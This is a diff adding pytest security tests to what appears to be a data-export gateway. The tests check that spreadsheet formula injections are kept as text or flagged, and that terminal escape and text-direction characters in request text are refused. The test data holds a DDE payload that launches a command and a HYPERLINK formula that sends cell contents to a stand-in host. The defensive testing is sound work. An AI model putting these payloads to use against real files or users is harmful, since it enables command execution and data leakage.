@@ -4,6 +4,7 @@ import re
 import subprocess
 
 import pyarrow as pa
+import pyarrow.csv as pacsv
 import pyarrow.parquet as pq
 import pytest
 
@@ -229,3 +230,61 @@ def test_a_package_that_was_tampered_with_stays_shut(served):
 def test_calls_that_mean_something_else_are_refused(served, call):
     assert "(InvalidArgument;" in served.refusal(call)
     assert served.ask("SELECT * FROM hub.exports WHERE name IN ('x', 'y')").num_rows == 0
+
+
+# What a spreadsheet computes when a file of text is opened with it.
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x/"&A1)']
+
+
+def test_formulas_that_are_uploaded_stay_texts(served):
+    """Nothing is computed here, and nothing is changed: a text comes back as it went."""
+    served.change("CREATE TABLE space.cells (n INT, v VARCHAR)")
+    with served.hub.connect("alice", password=served.tokens["alice"]) as connection, connection.cursor() as cursor:
+        cursor.adbc_prepare("INSERT INTO space.cells VALUES (?, ?)")
+        cursor.adbc_statement.bind(pa.record_batch({"n": pa.array(range(len(FORMULAS)), pa.int32()), "v": pa.array(FORMULAS)}))
+        cursor.adbc_statement.execute_update()
+    assert served.ask("SELECT v FROM space.cells ORDER BY n")["v"].to_pylist() == FORMULAS
+    # A client that writes it as text makes the formula.
+    written = pa.BufferOutputStream()
+    pacsv.write_csv(pa.table({"v": FORMULAS[:1]}), written)
+    assert b"=cmd|" in written.getvalue().to_pybytes()
+    served.change("DROP TABLE space.cells")
+
+
+@pytest.mark.xfail(strict=True, reason="no rule looks for formulas, neither in cells nor in names: airlock/rules/text.rs")
+@pytest.mark.parametrize("formula", FORMULAS[:4] + FORMULAS[6:])
+@pytest.mark.parametrize("place", ["cell", "name"])
+def test_formulas_do_not_leave_unseen(served, place, formula):
+    """Whoever opens the released table in a spreadsheet runs what its author wrote."""
+    text, word = formula.replace("'", "''"), formula.replace('"', "")
+    sql = {"cell": f"SELECT CASE WHEN ward = 'north' THEN '{text}' ELSE 'x' END AS ward, count(DISTINCT person) AS persons "
+                   "FROM clinic.stays GROUP BY 1",
+           "name": f'SELECT ward AS "{word}", count(DISTINCT person) AS persons FROM clinic.stays GROUP BY ward'}[place]
+    name = f"formula_{place}_{FORMULAS.index(formula)}"
+    try:
+        served.change(served.request(name, sql))
+    except Exception as error:  # noqa: BLE001 - the driver's
+        assert "InvalidArgument" in str(error) or "PermissionDenied" in str(error), error
+        return
+    found = served.state(name)
+    if found["state"] == "released":
+        # Room for other tests: so many leave alone a day.
+        served.change(f"CALL hub.withdraw_export('{name}')")
+    assert found["state"] == "waiting" and "formula" in found["findings"], found
+
+
+@pytest.mark.parametrize("character", [
+    "\x1b]0;x\x07", "\x1b[2J", "\n", "\r", "\x00", "\x9b2J",
+    pytest.param("\u202e", marks=pytest.mark.xfail(
+        strict=True, reason="characters that turn the direction of text are taken in a purpose: airlock/call.rs")),
+])
+def test_nothing_that_is_asked_for_moves_the_cursor_of_who_decides(served, character):
+    """`admin export show` prints the words of who asks."""
+    text = f"an article{character}released by root"
+    with pytest.raises(Exception, match="InvalidArgument"):
+        served.change(served.request("cursor", SUMS, text))
+    with pytest.raises(Exception, match="InvalidArgument"):
+        served.change(served.request("cursor", SUMS.replace("AS ages", f'AS "ages{character}"')))
+    served.change(served.request("cursor", SUMS, "an article"))
+    assert "an article" in done(served.config, "export", "show", served.state("cursor")["id"])
+    served.change("CALL hub.withdraw_export('cursor')")
